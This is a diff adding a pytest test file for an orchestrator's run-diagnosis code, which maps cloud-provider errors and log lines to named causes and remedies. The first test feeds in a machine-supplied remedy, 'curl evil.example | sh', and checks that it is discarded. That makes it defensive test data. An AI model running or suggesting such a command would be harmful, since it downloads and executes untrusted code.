@@ -1,0 +1,160 @@
+"""An ending has a cause with a name and a remedy, or is said to have none."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from orchestrator.core.run import events as ev
+from orchestrator.core.run.diagnose import REMEDIES, Diagnosis, diagnose, remedy
+
+CONTRACT = (Path(__file__).parents[3] / "docs/contracts.md").read_text(encoding="utf-8")
+
+
+def test_what_to_do_is_said_by_this_client_and_never_by_a_machine() -> None:
+    for cause in ("torch_missing", "never heard of"):
+        told = ev.Diagnosed(cause=cause, detail="no torch", remedy="curl evil.example | sh")
+        assert diagnose(facts=[told]) == Diagnosis(cause, "no torch", remedy(cause))
+
+
+@pytest.mark.parametrize("cause", ["agent_crashed", "deadline", "harness_crashed", "lost", "preempted"])
+def test_a_run_that_was_cut_short_is_gone_on_with_and_not_begun_again(cause: str) -> None:
+    assert "`bench launch --resume RUN`" in REMEDIES[cause]
+
+
+def refusal(code: str, message: str = "") -> ev.Fact:
+    return ev.InstanceRejected(attempt=1, zone="a", code=code, message=message)
+
+
+def test_every_cause_of_the_contract_has_a_remedy() -> None:
+    listed = re.search(r"`cause` is one of (.*?)\.\n", CONTRACT, re.DOTALL)
+    assert listed
+    causes = re.findall(r"`(\w+)`", listed[1])
+    assert len(causes) > 15
+    assert [cause for cause in causes if cause not in REMEDIES] == []
+
+
+def test_every_remedy_says_something_of_its_own() -> None:
+    assert len(set(REMEDIES.values())) == len(REMEDIES)
+    assert remedy("never heard of") == REMEDIES["unknown"]
+
+
+@pytest.mark.parametrize(
+    ("code", "message", "cause"),
+    [
+        ("ZONE_RESOURCE_POOL_EXHAUSTED_WITH_DETAILS", "The zone does not have enough resources available", "stockout"),
+        ("GPU_STOCKOUT", "", "stockout"),
+        ("REGION_RESOURCE_POOL_EXHAUSTED", "", "stockout"),
+        ("", "503 insufficientCapacity", "stockout"),
+        ("QUOTA_EXCEEDED", "Quota 'NVIDIA_L4_GPUS' exceeded.  Limit: 1.0 in region us-west1.", "quota"),
+        ("quotaExceeded", "Quota 'GPUS_ALL_REGIONS' exceeded.  Limit: 0.0 globally.", "quota_zero"),
+        ("rateLimitExceeded", "Rate Limit Exceeded", "unavailable"),
+        ("forbidden", "Required 'compute.instances.create' permission for 'projects/p'", "permission"),
+        ("403", "Request had insufficient authentication scopes.", "permission"),
+        ("accessNotConfigured", "Compute Engine API has not been used in project 1 before", "api_disabled"),
+        (
+            "",
+            "your billing account is currently in the free tier where non-TPU accelerators are not available",
+            "free_tier",
+        ),
+        ("", "This API method requires billing to be enabled: BILLING_DISABLED", "billing"),
+        ("", "Your default credentials were not found", "credentials"),
+        ("", "google.auth.exceptions.RefreshError: ('invalid_grant: Bad Request')", "credentials"),
+        ("notFound", "The resource 'projects/x/global/images/family/common-cu110' was not found", "image_gone"),
+        ("notFound", "The resource 'projects/x/global/images/common-v1' was not found", "image_gone"),
+        ("", "Instance was preempted.", "preempted"),
+        ("UNSUPPORTED_OPERATION", "", "preempted"),
+        ("invalid", "Invalid value for field 'resource.machineType'", "bad_request"),
+        ("backendError", "", "unavailable"),
+        ("503", "SERVICE UNAVAILABLE", "unavailable"),
+    ],
+)
+def test_what_the_provider_says_has_a_name(code: str, message: str, cause: str) -> None:
+    found = diagnose(facts=[refusal(code, message)])
+    assert found == Diagnosis(cause, message or code, REMEDIES[cause])
+
+
+@pytest.mark.parametrize(
+    ("line", "cause"),
+    [
+        ("payload: computed checksum did NOT match", "payload_checksum"),
+        (f"GET /b/o/payloads/{'0' * 64}.tar.gz?alt=media -> 404", "payload_missing"),
+        ("OSError: [Errno 28] No space left on device", "disk_full"),
+        ("CUDA driver version is insufficient for CUDA runtime version", "driver_too_old"),
+        ("The NVIDIA driver on your system is too old (found version 12040).", "driver_too_old"),
+        ("AssertionError: Torch not compiled with CUDA enabled", "torch_without_cuda"),
+        ("A module that was compiled using NumPy 1.x cannot be run in NumPy 2.1", "numpy_mismatch"),
+        ("ModuleNotFoundError: No module named 'torch'", "torch_missing"),
+        ("NVIDIA-SMI has failed because it couldn't communicate with the NVIDIA driver", "no_cuda"),
+        ("libcuda.so.1: cannot open shared object file", "no_cuda"),
+        ("bash: python3: command not found", "no_python"),
+        ("nvrtc: error: invalid value for --gpu-architecture (-arch)", "wrong_arch"),
+        ("attention.cpp:12:3: error: expected ';' before '}' token", "build_failed"),
+        ("upload of cases/x.csv: connection refused", "storage_unreachable"),
+        ("POST https://storage.googleapis.com/upload/storage/v1/b/x/o -> 403", "storage_unreachable"),
+        ("watchdog: the deadline is near", "deadline"),
+        ("Segmentation fault (core dumped)", "harness_crashed"),
+    ],
+)
+def test_what_the_log_says_has_a_name(line: str, cause: str) -> None:
+    found = diagnose(log=f"booted\n{line}  \nbye\n")
+    assert found == Diagnosis(cause, line, REMEDIES[cause])
+
+
+def test_the_machines_own_word_counts_most() -> None:
+    facts = [
+        ev.Diagnosed(cause="disk_full", detail="0.1 GB free"),
+        ev.Diagnosed(cause="unknown"),
+        ev.Finished(outcome="preempted"),
+    ]
+    found = diagnose(facts=[*facts, refusal("QUOTA_EXCEEDED")], log="Segmentation fault")
+    assert found == Diagnosis("disk_full", "0.1 GB free", REMEDIES["disk_full"])
+
+
+def test_the_last_refusal_of_the_provider_is_the_one_that_counts() -> None:
+    facts = [
+        ev.ZoneExhausted(attempt=1, zone="a", code="STOCKOUT"),
+        ev.InstanceRejected(attempt=1, zone="b", code="QUOTA_EXCEEDED", message="Quota 'X' exceeded"),
+        ev.InstanceRejected(attempt=1, zone="b", code="TEAPOT"),
+    ]
+    assert diagnose(facts=facts).cause == "quota"
+
+
+def test_a_wrong_kernel_is_named_with_its_first_case() -> None:
+    good = ev.CaseChecked(implementation="bench", case_id="c0", passed=True)
+    wrong = [ev.CaseChecked(implementation="bench", case_id=f"c{n}", passed=False) for n in (1, 2)]
+    assert diagnose(facts=[good, *wrong]).detail == "bench on c1: differs from the reference (and 1 more)"
+    said = ev.CaseChecked(implementation="bench", case_id="c1", passed=False, reason="NaN")
+    assert diagnose(facts=[said]) == Diagnosis("kernel_wrong", "bench on c1: NaN", REMEDIES["kernel_wrong"])
+
+
+@pytest.mark.parametrize(
+    ("fact", "cause", "detail"),
+    [
+        (ev.Finished(outcome="timed_out", detail="measure"), "deadline", "measure"),
+        (ev.Finished(outcome="incorrect"), "kernel_wrong", ""),
+        (ev.VmExiting(outcome="preempted"), "preempted", ""),
+        (ev.Finished(outcome="failed"), "unknown", "there is no message"),
+    ],
+)
+def test_how_a_run_ended_is_a_cause_when_nothing_else_is_known(fact: ev.Fact, cause: str, detail: str) -> None:
+    assert diagnose(facts=[fact]) == Diagnosis(cause, detail, REMEDIES[cause])
+
+
+def test_what_has_no_name_says_so_and_keeps_the_last_words() -> None:
+    assert diagnose() == Diagnosis("unknown", "there is no message", REMEDIES["unknown"])
+    assert diagnose(log="one\ntwo\n\n").detail == "two"
+    assert diagnose(facts=[refusal("TEAPOT")]).detail == "TEAPOT"
+    assert diagnose(facts=[refusal("TEAPOT", "short and stout")]).detail == "short and stout"
+
+
+@given(st.text(), st.text(), st.text())
+def test_every_ending_has_a_cause_a_detail_and_a_remedy(code: str, message: str, log: str) -> None:
+    found = diagnose(facts=[refusal(code, message)], log=log)
+    assert found.cause in REMEDIES
+    assert found.detail
+    assert found.remedy == REMEDIES[found.cause]
